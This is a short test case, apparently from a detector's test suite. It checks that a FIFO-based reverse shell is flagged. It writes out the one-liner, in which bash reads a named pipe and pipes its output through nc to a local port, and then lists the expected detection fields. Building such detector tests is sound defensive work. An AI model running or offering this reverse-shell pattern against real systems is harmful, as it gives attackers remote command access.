# R02c: bash runs a FIFO that nc writes into
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $nc
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4442
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
peer 4442; rm -f /tmp/r02c; mkfifo /tmp/r02c
#: act
. lib/peers.sh
act
(bash /tmp/r02c 2>&1 | nc 127.0.0.1 4442 > /tmp/r02c) < /dev/null > /dev/null 2>&1 &
who shell 'bash /tmp/r02c'; who nc 'nc 127.0.0.1 4442'
await 'at $shell 255 /tmp/r02c && same $shell 1 $nc 0 && at $nc 1 /tmp/r02c && at $nc 3 socket:*'
#: clean
rm -f /tmp/r02c
